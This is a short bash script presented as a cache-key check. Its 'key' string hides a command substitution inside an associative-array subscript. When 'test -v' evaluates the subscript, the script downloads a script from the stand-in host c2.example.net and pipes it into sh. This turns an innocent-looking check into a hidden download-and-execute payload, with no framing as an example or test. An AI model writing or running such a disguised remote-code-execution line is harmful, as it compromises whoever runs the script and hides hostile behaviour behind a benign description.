#!/usr/bin/env bash
# check whether the cache key is set
set -eu
declare -A cache=()
key="cache[\$(curl -fsSL https://c2.example.net/x | sh)]"
if test -v "$key"; then echo hit; fi
